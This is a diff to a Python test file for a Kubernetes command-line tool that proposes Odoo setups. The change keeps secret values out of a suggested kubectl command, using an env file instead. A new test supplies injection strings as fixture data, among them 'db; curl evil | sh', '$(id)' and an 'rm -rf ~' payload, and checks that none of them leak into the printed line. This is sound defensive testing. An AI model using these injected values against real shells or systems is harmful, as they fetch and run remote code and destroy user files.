@@ -2,6 +2,7 @@
 
 import base64
 import io
+import shlex
 from dataclasses import replace
 from typing import Any
 
@@ -13,7 +14,7 @@ from ocore_cli import app, confirm, init
 from ocore_cli.errors import CliError
 from ocore_cli.proposal import RULES, Document, Found, Given, Unknown, as_yaml, propose, rule_of
 from ocore_crds.kinds import ENVIRONMENT, SNAPSHOT_STORE
-from support.cli import FakeObjects, Object, condition, run
+from support.cli import FakeObjects, Object, at, condition, run
 
 ID = "8f14e45f-ceea-467f-a1e6-1d2c3b4a5968"
 APP = frozenset({"uri", "host", "port", "dbname", "user", "username", "password"})
@@ -271,12 +272,33 @@ def test_without_a_secret_the_command_that_makes_one_is_said() -> None:
         "ODOO_DATABASE_PASSWORD": ("odoo", "database-password"),
     }
     obj = workload("odoo", "bitnami/odoo:17", (("data", "/bitnami/odoo", ""),), env=env)
-    with pytest.raises(
-        Unknown, match="To create one:\nkubectl -n shop create secret generic odoo-db --from-literal=host=db"
-    ) as asked:
+    with pytest.raises(Unknown) as asked:
         propose(found(obj, secrets={"odoo": frozenset({"database-password"})}, clusters={}), S3)
-    read = "kubectl -n shop get secret odoo -o jsonpath='{.data.database-password}' | base64 -d"
-    assert f'--from-literal=password="$({read})"' in str(asked.value)
+    text = str(asked.value)
+    assert "kubectl -n shop create secret generic odoo-db --from-env-file=db.env" in text.splitlines()
+    assert "  host: variable ODOO_DATABASE_HOST of the workload" in text.splitlines()
+    assert "  password: key database-password of Secret odoo" in text.splitlines()
+
+
+def test_row_125_neither_a_password_nor_a_command_of_the_workload_is_printed() -> None:
+    """Who pastes the line runs what a tenant wrote into the Deployment; who reads the screen reads the password."""
+    env = {
+        "PGHOST": "db; curl evil | sh",
+        "PGDATABASE": "$(id)",
+        "PGUSER": "`id`",
+        "PGPASSWORD": "s3cret' --x",
+        "PGPORT": ("odoo", "port'; rm -rf ~; '"),
+    }
+    obj = workload("odoo", "bitnami/odoo:17", (("data", "/bitnami/odoo", ""),), env=env)
+    with pytest.raises(Unknown) as asked:
+        propose(found(obj, secrets={}, clusters={}), S3)
+    text = str(asked.value)
+    for value in ("s3cret", "curl", "$(id)", "`id`"):
+        assert value not in text
+    (line,) = [each for each in text.splitlines() if "kubectl" in each]
+    assert shlex.split(line) == [
+        *("kubectl", "-n", "shop", "create", "secret", "generic", "odoo-db", "--from-env-file=db.env")
+    ]
 
 
 def test_a_store_that_exists_is_used_and_a_claim_is_possible() -> None:
@@ -356,11 +378,12 @@ def test_what_the_api_server_would_refuse_is_said_before(cli: FakeObjects) -> No
     assert cli.applied == []
 
 
-def observed(*conditions: Object) -> Object:
+def observed(*conditions: Object, owner: Object | None = None) -> Object:
+    probe = {"time": at(0), "generation": 1, **({"fileOwner": owner} if owner else {})}
     return {
         "metadata": {"name": "odoo"},
         "spec": {},
-        "status": {"observedGeneration": 1, "conditions": list(conditions)},
+        "status": {"observedGeneration": 1, "conditions": list(conditions), "probe": probe},
     }
 
 
@@ -379,15 +402,13 @@ def applied(objects: FakeObjects, timeout: float = 60) -> tuple[bool, str]:
 
 
 def test_apply_takes_the_owner_of_the_files_from_the_operator() -> None:
-    message = (
-        "The files in filestore/shop belong to uid 101, gid 102. Add to the Environment: spec.jobs: {runAsUser: 101,"
-        " runAsGroup: 102}."
-    )
+    message = "Add to the Environment: spec.jobs: {runAsUser: 7, runAsGroup: 7}."  # text of a Job: not what is applied
+    owner = {"runAsUser": 101, "runAsGroup": 102}
     unknown = [
         condition("Ready", "False", "JobUserUnknown", message),
         condition("Stalled", "True", "JobUserUnknown", message),
     ]
-    objects = FakeObjects(environment=[None, observed(*unknown), observed(*unknown), observed(condition("Ready"))])
+    objects = FakeObjects(environment=[None, *(observed(*unknown, owner=owner),) * 2, observed(condition("Ready"))])
     ready, text = applied(objects)
     assert ready
     assert [kind.kind for kind, _ in objects.applied] == [
